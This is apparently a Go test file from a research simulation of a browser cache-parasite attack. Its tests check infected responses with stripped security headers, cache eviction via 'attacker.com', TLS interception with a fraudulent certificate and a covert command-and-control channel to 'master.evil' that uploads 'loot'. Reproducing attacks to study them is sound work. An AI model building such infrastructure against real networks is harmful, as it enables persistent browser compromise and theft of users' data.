package attacker

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/dom"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

func TestBuildInfectedResponseJS(t *testing.T) {
	m := New(netsim.New().MustSegment("x", 0), 0)
	resp := m.BuildInfectedResponse(&Target{
		Name: "a.com/lib.js", Kind: KindJS,
		ParasitePayload: "p1", Original: []byte("function lib(){}"),
	})
	if !bytes.HasPrefix(resp.Body, []byte("function lib(){}")) {
		t.Fatal("original content not preserved")
	}
	ms := script.Markers(resp.Body)
	if len(ms) != 1 || ms[0].Kind != "parasite" || ms[0].Payload != "p1" {
		t.Fatalf("markers = %v", ms)
	}
	cc := httpcache.ParseCacheControl(resp.Header.Get("Cache-Control"))
	if !cc.HasMaxAge || cc.MaxAge < 360*24*time.Hour {
		t.Fatalf("cache lifetime not maximised: %v", resp.Header.Get("Cache-Control"))
	}
	for _, h := range []string{"Content-Security-Policy", "Strict-Transport-Security", "X-Frame-Options"} {
		if resp.Header.Has(h) {
			t.Fatalf("security header %s present on infected response", h)
		}
	}
}

func TestBuildInfectedResponseHTML(t *testing.T) {
	m := New(netsim.New().MustSegment("x", 0), 0)
	resp := m.BuildInfectedResponse(&Target{
		Name: "a.com/", Kind: KindHTML,
		ParasitePayload: "p2", Original: []byte("<html><body><h1>x</h1></body></html>"),
	})
	doc := dom.ParseHTML("a.com/", resp.Body)
	scripts := doc.FindByTag("script")
	if len(scripts) != 1 {
		t.Fatalf("scripts in infected HTML = %d", len(scripts))
	}
	ms := script.Markers([]byte(scripts[0].Text))
	if len(ms) != 1 || ms[0].Payload != "p2" {
		t.Fatalf("markers = %v", ms)
	}
	if resp.Header.Get("Content-Type") != "text/html" {
		t.Fatal("wrong content type")
	}
}

// fakeEnv implements just enough of script.Env for behaviour tests.
type fakeEnv struct {
	script.Env // panics if an unexpected method is used
	images     []string
}

func (f *fakeEnv) AddImage(url string, _ func(int, int, bool)) {
	f.images = append(f.images, url)
}

func TestEvictionBehaviorLoadsJunk(t *testing.T) {
	rt := script.NewRuntime()
	RegisterEvictionBehavior(rt)
	env := &fakeEnv{}
	content := script.EmbedHTML(nil, "evict", "attacker.com|5|2048")
	if _, err := rt.Execute(env, content); err != nil {
		t.Fatal(err)
	}
	if len(env.images) != 5 {
		t.Fatalf("junk loads = %d, want 5", len(env.images))
	}
	if !strings.HasPrefix(env.images[0], "attacker.com/junk") {
		t.Fatalf("junk url = %q", env.images[0])
	}
}

func TestEvictionBehaviorBadPayload(t *testing.T) {
	rt := script.NewRuntime()
	RegisterEvictionBehavior(rt)
	content := script.EmbedHTML(nil, "evict", "garbage")
	if _, err := rt.Execute(&fakeEnv{}, content); err == nil {
		t.Fatal("bad eviction payload accepted")
	}
}

func TestCNCAdapterRoundTrip(t *testing.T) {
	m := cnc.NewMasterServer()
	id := m.QueueCommand("bot-9", []byte("hello"))
	h := CNCAdapter(m)

	meta := h(httpsim.NewRequest("GET", "master.evil", "/meta/bot-9.svg"))
	if meta.StatusCode != 200 {
		t.Fatalf("meta status = %d", meta.StatusCode)
	}
	d, err := cnc.ParseSVG(meta.Body)
	if err != nil {
		t.Fatal(err)
	}
	if int(d.W) != id {
		t.Fatalf("meta id = %d, want %d", d.W, id)
	}
	count := int(d.H)
	dims := make([]cnc.Dim, count)
	for seq := 0; seq < count; seq++ {
		img := h(httpsim.NewRequest("GET", "master.evil",
			"/img/bot-9/"+itoa(id)+"/"+itoa(seq)+".svg"))
		dims[seq], err = cnc.ParseSVG(img.Body)
		if err != nil {
			t.Fatal(err)
		}
	}
	data, err := cnc.DecodeDims(dims)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != "hello" {
		t.Fatalf("decoded %q", data)
	}

	// Upstream path through the adapter.
	chunk := cnc.EncodeURLChunks([]byte("loot"), 0)[0]
	if resp := h(httpsim.NewRequest("GET", "master.evil", "/up/bot-9/s/0/"+chunk)); resp.StatusCode != 200 {
		t.Fatalf("upload status = %d", resp.StatusCode)
	}
	if resp := h(httpsim.NewRequest("GET", "master.evil", "/up/bot-9/s/fin")); resp.StatusCode != 200 {
		t.Fatalf("fin status = %d", resp.StatusCode)
	}
	got, ok := m.Upload("bot-9", "s")
	if !ok || string(got) != "loot" {
		t.Fatalf("upload = %q ok=%v", got, ok)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	for n > 0 {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return s
}

func TestMasterSkipsReloadOriginalRequests(t *testing.T) {
	// The ?t= camouflage request must pass through uninjected, or the
	// page would never recover its genuine functionality (Fig. 2 step 4).
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	srvIfc := seg.MustAttach("server", 5*time.Millisecond, nil)
	serverStack := tcpsim.NewStack(n, srvIfc, tcpsim.WithSeed(5))
	if _, err := httpsim.NewServer(serverStack, 80, nil, func(*httpsim.Request) *httpsim.Response {
		return httpsim.NewResponse(200, []byte("GENUINE"))
	}); err != nil {
		t.Fatal(err)
	}
	m := New(seg, 0)
	m.AddTarget(Target{Name: "a.com/x.js", Kind: KindJS, ParasitePayload: "p", Original: []byte("o")})

	cliIfc := seg.MustAttach("client", 0, nil)
	client := httpsim.NewClient(tcpsim.NewStack(n, cliIfc, tcpsim.WithSeed(6)))

	var plain, busted string
	client.Do("server", 80, false, httpsim.NewRequest("GET", "a.com", "/x.js"), func(r *httpsim.Response, err error) {
		if err == nil {
			plain = string(r.Body)
		}
	})
	client.Do("server", 80, false, httpsim.NewRequest("GET", "a.com", "/x.js?t=123"), func(r *httpsim.Response, err error) {
		if err == nil {
			busted = string(r.Body)
		}
	})
	n.Run(0)
	if !script.Infected([]byte(plain)) {
		t.Fatalf("plain request not infected: %q", plain)
	}
	if busted != "GENUINE" {
		t.Fatalf("cache-busted request got %q, want the genuine object", busted)
	}
	if m.Stats().Injections != 1 {
		t.Fatalf("injections = %d, want 1", m.Stats().Injections)
	}
	if m.Stats().RequestsSeen != 2 {
		t.Fatalf("requests seen = %d", m.Stats().RequestsSeen)
	}
}

func TestMasterIgnoresSealedWithoutCert(t *testing.T) {
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	m := New(seg, 0)
	m.AddTarget(Target{Name: "a.com/x.js", Kind: KindJS, ParasitePayload: "p", Original: []byte("o")})
	// Emit a sealed frame directly onto the segment.
	src := seg.MustAttach("client", 0, nil)
	sealed := httpsim.Seal("a.com", httpsim.NewRequest("GET", "a.com", "/x.js").Marshal())
	wire := tcpsim.Segment{SrcPort: 50000, DstPort: 443, Seq: 1, Ack: 1,
		Flags: tcpsim.FlagACK | tcpsim.FlagPSH, Payload: sealed}
	src.Send(netsim.Packet{Dst: "server", Proto: netsim.ProtoTCP, Payload: wire.Marshal()})
	n.Run(0)
	if m.Stats().SealedSkipped != 1 {
		t.Fatalf("sealed skipped = %d", m.Stats().SealedSkipped)
	}
	if m.Stats().Injections != 0 {
		t.Fatal("master injected into ciphertext it could not read")
	}
}

func TestMasterDecryptsWithCert(t *testing.T) {
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	m := New(seg, 0, WithFraudulentCert("a.com"))
	m.AddTarget(Target{Name: "a.com/x.js", Kind: KindJS, ParasitePayload: "p", Original: []byte("o")})
	src := seg.MustAttach("client", 0, nil)
	sealed := httpsim.Seal("a.com", httpsim.NewRequest("GET", "a.com", "/x.js").Marshal())
	wire := tcpsim.Segment{SrcPort: 50000, DstPort: 443, Seq: 1, Ack: 1,
		Flags: tcpsim.FlagACK | tcpsim.FlagPSH, Payload: sealed}
	src.Send(netsim.Packet{Dst: "server", Proto: netsim.ProtoTCP, Payload: wire.Marshal()})
	n.Run(0)
	// The tap also observes the master's own injected (sealed) response,
	// so at least one decrypt must be the client request.
	if m.Stats().SealedDecrypted < 1 {
		t.Fatalf("sealed decrypted = %d", m.Stats().SealedDecrypted)
	}
	if m.Stats().Injections != 1 {
		t.Fatalf("injections = %d", m.Stats().Injections)
	}
}

func TestCNCAdapterMirrorsServeHTTPWire(t *testing.T) {
	// The in-simulation adapter and the real-socket handler must put the
	// same status, headers, and body on the wire — the flows artifact's
	// traced frame sizes depend on it.
	m := cnc.NewMasterServer()
	m.QueueCommand("b", []byte("hi"))
	adapter := CNCAdapter(m)
	for _, path := range []string{
		"/meta/b.svg", "/img/b/1/0.svg", "/img/b/1/99.svg",
		"/batch/b/1/0/1.svg", "/up/b/s/0/aGk", "/up/b/s/fin", "/nope",
	} {
		sim := adapter(httpsim.NewRequest("GET", "master.evil", path))
		rec := httptest.NewRecorder()
		m.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
		if sim.StatusCode != rec.Code || !bytes.Equal(sim.Body, rec.Body.Bytes()) {
			t.Fatalf("%s: adapter (%d, %q) != ServeHTTP (%d, %q)",
				path, sim.StatusCode, sim.Body, rec.Code, rec.Body.Bytes())
		}
		for k, vs := range rec.Header() {
			if k == "Content-Length" || k == "Date" {
				continue
			}
			if got := sim.Header.Get(k); len(vs) > 0 && got != vs[0] {
				t.Fatalf("%s: header %s = %q, ServeHTTP %q", path, k, got, vs[0])
			}
		}
	}
}
